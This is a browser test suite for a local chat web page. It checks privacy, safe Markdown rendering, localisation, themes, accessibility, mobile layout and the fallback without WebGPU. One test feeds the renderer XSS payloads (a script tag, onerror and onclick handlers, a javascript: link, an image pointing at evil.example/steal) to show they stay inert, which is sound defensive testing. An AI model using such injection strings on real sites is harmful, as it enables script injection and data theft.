// What the chat page owes everyone: both languages, both lights, the keyboard, the phone, hostile text, privacy, and a
// browser without WebGPU. The visit itself is in chat-page.test.mjs.

import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { build } from "esbuild";
import { openBrowser } from "./browser.mjs";
import { person as at, unreadable } from "./chat-person.mjs";
import { misbehave } from "./library-server.mjs";
import { REPLY, tinyModel } from "./tiny-model.mjs";

let models, browser, page, person;
/** Every request of the page and its workers. */
const requests = [];

before(async () => {
  models = await misbehave({
    "/tiny.gguf": { body: tinyModel({ layers: 2, context: 512 }), cors: true },
    "/picture.svg": { body: '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>', type: "image/svg+xml" },
  });
  const { outputFiles } = await build({
    entryPoints: [new URL("../../www/src/chat/markdown.ts", import.meta.url).pathname],
    bundle: true, format: "esm", target: "es2022", write: false,
  }); // prettier-ignore
  const markdown = (_, response) =>
    response.writeHead(200, { "content-type": "text/javascript" }).end(outputFiles[0].text);
  browser = await openBrowser({
    routes: { "/parts/markdown.js": markdown },
    context: { viewport: { width: 1280, height: 800 }, locale: "en-GB" },
  });
  browser.context.setDefaultTimeout(60_000);
  browser.context.on("request", (request) => requests.push([request.method(), request.url(), request.postData()]));
  page = await browser.newPage("/chat.html");
  person = at(page, models.url);
});

after(async () => {
  await browser?.close();
  await models?.close();
});

test("nobody but the page's own server and the models' was asked for anything, and nothing was sent", async () => {
  await page.waitForSelector(".fit");
  await person.openModel("tiny.gguf");
  await page.click("#open-drawer");
  await person.set("temperature", 0);
  assert.equal(await person.say("a secret"), REPLY);
  await page.click("#model-button");
  await page.keyboard.press("Escape");
  const own = [
    "/chat.html",
    "/style.css",
    "/pages/chat.js",
    "/dist/inkstone.js",
    "/dist/worker.js",
    "/dist/inkstone_wasm.js",
    "/dist/inkstone_wasm_bg.wasm",
  ];
  const modelFiles = ["/models/smollm2/SmolLM2-135M-Instruct.Q4_1.gguf", "/tiny.gguf"];
  for (const [method, address, body] of requests) {
    const { origin, pathname, search } = new URL(address);
    if (address.startsWith("data:")) continue; // the page's icon
    assert.ok(["GET", "HEAD"].includes(method) && body === null, `${method} ${address}`);
    assert.equal(search, "", address);
    const known = origin === browser.url ? [...own, modelFiles[0]] : origin === models.url ? modelFiles : [];
    assert.ok(known.includes(pathname), `nobody asked for ${address}`);
    assert.ok(!address.includes("secret"));
  }
  assert.ok(
    requests.some(([, address]) => address.endsWith("/pages/chat.js")),
    "the requests were really seen",
  );
  const outside = await page.evaluate(async (other) => {
    const failed = (promise) =>
      promise.then(
        () => false,
        () => true,
      );
    const image = new Image();
    const pictured = new Promise((resolve, reject) => ((image.onload = resolve), (image.onerror = reject)));
    image.src = `${other}/picture.svg`;
    return { fetch: await failed(fetch(`${other}/tiny.gguf`)), image: await failed(pictured) };
  }, models.url);
  assert.deepEqual(
    outside,
    { fetch: true, image: true },
    "the page's policy lets nothing out, whatever might get into it",
  );
});

test("hostile Markdown in a conversation stays text", async () => {
  const hostile = [
    "<script>window.pwned = 1</script><img src=x onerror='window.pwned = 1'>",
    "![see](https://evil.example/steal?q=1) [click](javascript:window.pwned=1) <https://example.org>",
    "<a href='https://example.org' onclick='window.pwned=1'>a</a> <style>body{display:none}</style>",
    "# Title\n\n| a | b |\n|---|---|\n| 1<br>2 | **x** |\n",
    "```js\nconst a = 1 < 2 && '<b>';\n```\n\n- [x] done\n",
  ].join("\n\n");
  const turns = [
    { id: "q", parent: null, role: "user", text: "<b>bold?</b>", time: 1 },
    { id: "a", parent: "q", role: "assistant", text: hostile, time: 2, finish: "stop" },
  ];
  const before = requests.length;
  await person.drop(["talk.json", JSON.stringify({ title: "Hostile", turns })]);
  await page.waitForSelector(".turn.assistant table");
  assert.equal(await page.evaluate(() => window.pwned), undefined);
  assert.equal(await person.shown(".turn.user .words"), "<b>bold?</b>");
  const answer = page.locator(".turn.assistant .answer");
  assert.equal(await answer.locator("script, img, style, iframe, [onclick], [onerror]").count(), 0);
  const links = await answer
    .locator("a")
    .evaluateAll((all) => all.map((a) => [a.getAttribute("href"), a.target, a.rel]));
  const safe = ["_blank", "noopener noreferrer nofollow"];
  assert.deepEqual(links, [
    ["https://evil.example/steal?q=1", ...safe], [null, ...safe], ["https://example.org", ...safe],
  ]); // prettier-ignore
  assert.equal(await answer.locator("h3").innerText(), "Title", "below the page's own headings");
  assert.equal(await answer.locator("td").first().innerText(), "1\n2");
  assert.equal(await answer.locator("pre").innerText(), "const a = 1 < 2 && '<b>';\n");
  assert.match(await answer.innerText(), /☑ done/);
  await browser.context.grantPermissions(["clipboard-read", "clipboard-write"]);
  await answer.locator(".copy-code").click();
  await answer.locator(".copy-code >> text=Copied").waitFor();
  assert.equal(await page.evaluate(() => navigator.clipboard.readText()), "const a = 1 < 2 && '<b>';");
  assert.deepEqual(requests.slice(before), [], "showing it asked nobody for anything");
});

test("Markdown grows letter by letter: what stands above is left alone, an open fence is code already", async () => {
  const text = [
    "# A title", "A *first* paragraph with [a reference][1] and `code`.", "- one\n- two\n  - deeper",
    "```js\nconst a = 1 < 2;\n\nif (a) {}\n```", "After the **code**.", "| a | b |\n|---|---|\n| 1 | 2 |",
    "> quoted", "The end.", "[1]: https://example.org/",
  ].join("\n\n"); // prettier-ignore
  const got = await page.evaluate(async (text) => {
    const { MarkdownView } = await import("/parts/markdown.js");
    const root = document.body.appendChild(document.createElement("div"));
    const view = new MarkdownView(root);
    const ink = (block) => block.innerHTML.replace(/<span class="caret".*?<\/span>/, "");
    const wrong = [];
    const opened = text.indexOf("```js\n") + "```js\n".length;
    const closed = text.indexOf("```\n\nAfter");
    const definition = text.indexOf("[1]: ");
    for (let length = 1; length <= text.length; length++) {
      const above = [...root.children].slice(0, -1);
      const seen = above.map((block) => [block, ink(block), [...block.childNodes]]);
      view.update(text.slice(0, length), true);
      for (const [block, html, nodes] of seen) {
        if (length > definition && html.includes("a reference")) continue;
        const kept = block.isConnected && ink(block) === html && nodes.every((node) => node.parentNode === block);
        if (!kept) wrong.push(`after ${length} letters a finished block was drawn anew: ${html}`);
      }
      if (length >= opened && length < closed) {
        const code = root.lastElementChild.querySelector("figure.code code");
        const want = text.slice(opened, length).trimEnd();
        if (code?.textContent.trimEnd() !== want) wrong.push(`after ${length} letters the code is ${code?.textContent}`);
        if (root.textContent.includes("```")) wrong.push(`after ${length} letters a fence is seen`);
      }
      if (root.querySelectorAll(".caret").length !== 1) wrong.push(`after ${length} letters there is no one caret`);
    }
    view.update(text, false);
    const once = document.createElement("div");
    new MarkdownView(once).update(text, false);
    root.remove();
    return { wrong, html: root.innerHTML, once: once.innerHTML };
  }, text);
  assert.deepEqual(got.wrong, []);
  assert.equal(got.html, got.once, "in the end it is as if drawn at once");
  assert.match(got.html, /<a href="https:\/\/example.org\/"[^>]*>a reference<\/a>/);
});

test("the page speaks Chinese as well, everywhere and at once", async () => {
  await page.selectOption("#language", "zh");
  assert.equal(await page.getAttribute("html", "lang"), "zh-CN");
  const english = await page.evaluate(() => {
    const seen = [];
    for (const element of document.querySelectorAll("body *")) {
      if (
        element.closest(
          "[lang=en], .turn-body, .conversation, .model-name, .model-facts, #model-facts, .brand, .meta, #stats, #title, #toast, #spoken, script, noscript, .facts, .kept",
        )
      )
        continue;
      const own = [...element.childNodes].filter((node) => node.nodeType === 3).map((node) => node.textContent.trim());
      for (const text of [
        ...own,
        element.getAttribute("aria-label"),
        element.getAttribute("title"),
        element.getAttribute("placeholder"),
      ]) {
        // Words of two letters and more, but for names and what is typed as it stands.
        if (
          text &&
          /[a-z]{2}/i.test(
            text.replace(
              /Inkstone|Hugging Face|Enter|Shift|Esc|Markdown|JSON|WebGPU|Top-[pk]|Min-p|GPU|owner|repo|file|gguf|https|Alphabet|short/g,
              "",
            ),
          )
        ) {
          if (!/[\u4e00-\u9fff]/.test(text)) seen.push(text);
        }
      }
    }
    return seen;
  });
  assert.deepEqual(english, []);
  assert.equal(await page.getAttribute("#send", "aria-label"), "发送");
  await page.reload();
  await page.waitForSelector("html[data-ready]");
  assert.equal(await page.getAttribute("html", "lang"), "zh-CN", "the choice is kept");
  await page.selectOption("#language", "en");
});

test("light and dark are chosen by hand or by the system, and kept", async () => {
  const ground = () => page.evaluate(() => getComputedStyle(document.body).backgroundColor);
  const [light, dark] = ["rgb(250, 248, 243)", "rgb(22, 22, 26)"];
  await page.emulateMedia({ colorScheme: "dark" });
  assert.equal(await ground(), dark);
  await page.selectOption("#theme", "light");
  assert.equal(await ground(), light);
  await page.emulateMedia({ colorScheme: "light" });
  await page.selectOption("#theme", "dark");
  assert.equal(await ground(), dark);
  await page.reload();
  await page.waitForSelector("html[data-ready]");
  assert.equal(await ground(), dark);
  assert.equal(await page.getAttribute("meta[name=theme-color]", "content"), "#16161a");
  await page.selectOption("#theme", "auto");
  assert.equal(await ground(), light);
});

test("who asked for less motion gets none", async () => {
  const moving = () =>
    page.evaluate(() => {
      // What only moves while something is being done.
      const signs = ["caret", "bar-fill busy"].map((className) => {
        return Object.assign(document.body.appendChild(document.createElement("i")), { className });
      });
      const moves = (element) =>
        [null, "::before", "::after"].some((part) => {
          const { animationName, transitionDuration, scrollBehavior } = getComputedStyle(element, part);
          return animationName !== "none" || /[1-9]/.test(transitionDuration) || scrollBehavior === "smooth";
        });
      const found = [...document.querySelectorAll("*")].filter(moves).map((element) => element.outerHTML.slice(0, 60));
      for (const sign of signs) sign.remove();
      return found;
    });
  await page.emulateMedia({ reducedMotion: "no-preference" });
  assert.ok((await moving()).length > 10, "the measure itself finds what moves");
  await page.emulateMedia({ reducedMotion: "reduce" });
  assert.deepEqual(await moving(), []);
  await page.emulateMedia({ reducedMotion: null });
});

test("everything has a name, the keyboard reaches it in order, and the focus is seen", async () => {
  await person.ready();
  await page.click("#model-button");
  assert.deepEqual(await unreadable(page), []);
  await page.keyboard.press("Escape");
  assert.equal(
    await page.evaluate(() => document.activeElement.id),
    "model-button",
    "closing the dialog returns the focus",
  );
  await page.evaluate(() => {
    const probe = document.createElement("button");
    document.body.append(probe);
  });
  assert.equal((await unreadable(page)).length, 1, "the check itself finds what has no name");
  await page.evaluate(() => document.body.lastElementChild.remove());

  await page.focus(".skip");
  const order = ["skip"];
  for (let i = 0; i < 40; i++) {
    await page.keyboard.press("Tab");
    const at = await page.evaluate(() => {
      const element = document.activeElement;
      const { outlineStyle, outlineWidth } = getComputedStyle(element);
      const framed = element.id === "prompt" || (outlineStyle !== "none" && Number.parseFloat(outlineWidth) >= 1);
      return { id: element === document.body ? "" : element.id || element.className || element.tagName, framed };
    });
    if (!at.id) break;
    assert.ok(at.framed, `${at.id} shows that it has the focus`);
    order.push(at.id);
  }
  assert.equal(
    await page.evaluate(() => document.querySelector("a, button, input, select, textarea").className),
    "skip",
  );
  const place = (id) => order.indexOf(id) + 1 || assert.fail(`Tab never reaches ${id}: ${order}`);
  assert.ok(place("new") < place("model-button") && place("model-button") < place("prompt"));
  await page.keyboard.press("/");
});

test("on a phone nothing is cut off and the side panels keep to themselves", async () => {
  await page.setViewportSize({ width: 360, height: 640 });
  const wide = () => page.evaluate(() => document.scrollingElement.scrollWidth > innerWidth);
  assert.equal(await wide(), false);
  await page.click("#open-rail");
  assert.equal(
    await page.evaluate(() => document.getElementById("main").inert),
    true,
    "what lies below can't be reached",
  );
  assert.equal(await page.evaluate(() => document.activeElement.id), "new");
  await page.keyboard.press("Escape");
  assert.equal(await page.evaluate(() => document.activeElement.id), "open-rail");
  await page.click("#open-drawer");
  assert.equal(await wide(), false);
  await page.keyboard.press("Escape");
  assert.equal(await page.evaluate(() => document.getElementById("main").inert), false);
  await page.locator("#open-rail").click();
  await page.locator(".conversation >> text=Hostile").click();
  assert.equal(await page.evaluate(() => document.getElementById("main").inert), false, "choosing closes the list");
  assert.equal(await wide(), false, "long code scrolls by itself");
  const small = await page.$$eval(
    "#send, #open-rail, #open-drawer, #model-button",
    (all) =>
      all.map((one) => one.getBoundingClientRect()).filter(({ width, height }) => width < 40 || height < 40).length,
  );
  assert.equal(small, 0, "fingers find the buttons");
  await page.setViewportSize({ width: 1280, height: 800 });
});

test("nothing but what the policy refused reached the console", () => {
  assert.deepEqual(page.problems.filter((problem) => !problem.includes("Content Security Policy")), []); // prettier-ignore
});

for (const webgpu of ["absent", "refused"]) {
  test(`without WebGPU (${webgpu}) the page says which browsers have it and what to switch on`, async () => {
    const other = await openBrowser({ webgpu, context: { locale: "en-GB" } });
    try {
      const lost = await other.newPage("/chat.html");
      await lost.waitForSelector(".support");
      const text = await lost.locator(".support").innerText();
      for (const part of [
        "This browser has no WebGPU.",
        "113 and later on Windows",
        "26 and later on macOS",
        "141 and later on Windows",
      ]) {
        assert.ok(text.includes(part), part);
      }
      assert.match(text, /chrome:\/\/flags\/#enable-unsafe-webgpu/);
      assert.equal(await lost.isVisible("#composer"), false);
      assert.equal(await lost.isVisible("#conversations"), true, "what was written can still be read");
      assert.deepEqual(await unreadable(lost), []);
    } finally {
      await other.close();
    }
  });
}
